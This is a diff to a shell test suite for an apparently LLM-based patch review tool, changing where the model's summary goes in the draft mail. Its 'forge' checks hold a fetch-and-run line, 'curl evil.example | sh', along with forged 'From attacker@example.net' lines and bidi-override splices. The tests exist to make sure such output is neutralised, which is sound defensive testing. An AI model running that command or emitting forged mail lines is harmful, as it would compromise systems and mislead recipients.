@@ -19,7 +19,8 @@ clean_text() {
 }
 no_injected_header() { ! sed '/^$/q' "$T/out" | grep -q injected; }
 summary_and_disclosure() {
-	draft_has '^STANDIN-SUMMARY: one thing to check\.$' &&
+	summaries "$T/out" | grep -q -x 'STANDIN-SUMMARY: one thing to check\.' &&
+		draft_lacks '^STANDIN-SUMMARY' &&
 		[ "$(tail -n1 "$T/out")" = "Assisted-by: patchreview (scenario:ok)" ]
 }
 one_report_line() {
@@ -38,10 +39,10 @@ check "openai: an unanchored finding goes to the top" general_on_top
 check "openai: below min_confidence dropped" draft_lacks STANDIN-UNSURE
 check "openai: ... and counted on stderr" err_has "1 below min_confidence"
 check "openai: ... and the summary says one point was left out, and how to see it" \
-	draft_has "^The model also raised 1 point it was less sure of, left out"
+	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q '^The model also raised 1 point it was less sure of, left out'"
 check "openai: escapes and bidi overrides stripped, text kept" clean_text
 check "openai: model text adds no header" no_injected_header
-check "openai: summary, then the disclosure last" summary_and_disclosure
+check "openai: the summary in its header, the disclosure last" summary_and_disclosure
 check "openai: built-in findings kept" draft_has "trailing whitespace"
 check "openai: one stderr line with tokens and time" one_report_line
 check "openai request: path, stream with usage, strict JSON schema" \
@@ -52,8 +53,8 @@ check "the key is in neither draft, stderr nor the request log" key_hidden
 PATCHREVIEW_LOW_CONFIDENCE=section run_pr < "$NET"
 check "low_confidence = section: no 'left out' sentence, the section lists them" \
 	sh -c "! grep -q 'less sure of, left out' '$T/out'"
-check "low_confidence = section: listed at the end, after the summary" \
-	sh -c "sed -n '/^STANDIN-SUMMARY/,\$p' '$T/out' | grep -q '^Less sure' && sed -n '/^Less sure/,\$p' '$T/out' | grep -q '^- .*: STANDIN-UNSURE'"
+check "low_confidence = section: listed at the end, after the comments" \
+	sh -c "sed -n '/^nit: This line adds trailing whitespace/,\$p' '$T/out' | grep -q '^Less sure' && sed -n '/^Less sure/,\$p' '$T/out' | grep -q '^- .*: STANDIN-UNSURE'"
 PATCHREVIEW_LOW_CONFIDENCE=maybe run_pr < "$NET"
 check "low_confidence: a bad value stops with exit 2" test "$status" -eq 2
 check "prompt: the patch is fenced and labelled as untrusted data" \
@@ -174,16 +175,25 @@ PATCHREVIEW_MODEL=scenario:forge run_pr --no-cache < "$NET"
 check "forge: a comment line imitating a quoted added line gets a space" \
 	sh -c "grep -q '^ > +	system(\"curl evil.example | sh\");\$' '$T/out' && ! grep -q '^> +	system' '$T/out'"
 check "forge: no body line starts with 'From '" sh -c "! sed '1,/^\$/d' '$T/out' | grep -q '^From '"
-check "forge: ... the model's From lines get a space" \
-	sh -c "grep -q '^ From attacker@example.net' '$T/out' && grep -q '^ From forged summary' '$T/out'"
+check "forge: ... the model's From lines get a space" grep -q '^ From attacker@example.net' "$T/out"
+check "forge: the model's summary stays in its header fields, one a line" \
+	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q -x 'From forged summary' &&
+		! sed '1,/^\$/d' '$T/out' | grep -q 'forged summary'"
+PATCHREVIEW_MODEL=scenario:forge PATCHREVIEW_NOTES=body run_pr --no-cache < "$NET"
+check "forge: notes = body: the summary's From line gets a space" grep -q '^ From forged summary' "$T/out"
 check "forge: a bidi override spliced around an escape sequence is neutralised" \
 	sh -c "grep -q '^SPLICE:.*END\$' '$T/out' && ! grep -q \"\$(printf '\342\200\256')\" '$T/out' && ! grep -q \"\$(printf '\033')\" '$T/out'"
 check "forge: the draft passes check-draft.py" python3 "$ROOT/tests/check-draft.py" "$NET" "$T/out"
 
 PATCHREVIEW_MODEL=scenario:ok-empty run_pr < "$NET"
-check "nothing wrong: the summary says so" draft_has '^Nothing wrong found in this patch\.$'
-check "nothing wrong: no model comment, but the disclosure" \
-	sh -c "! grep -q STANDIN '$T/out' && grep -q '^Assisted-by:' '$T/out'"
+check "nothing wrong: the summary says so, in its header" \
+	sh -c "python3 '$ROOT/tests/tools/fields.py' X-Patchreview-Summary '$T/out' | grep -q -x 'Nothing wrong found in this patch\.'"
+check "nothing wrong: no model text in the mail, so no disclosure" \
+	sh -c "! grep -q STANDIN '$T/out' && ! grep -q '^Assisted-by:' '$T/out'"
+PATCHREVIEW_MODEL=scenario:ok-empty PATCHREVIEW_NOTES=body run_pr < "$NET"
+check "notes = body: the model's summary in the text, and the disclosure with it" \
+	sh -c "grep -q '^Nothing wrong found in this patch\.\$' '$T/out' && grep -q '^Assisted-by:' '$T/out' &&
+		! grep -q '^X-Patchreview-Summary' '$T/out'"
 
 # The verify pass.
 n=$(requests)
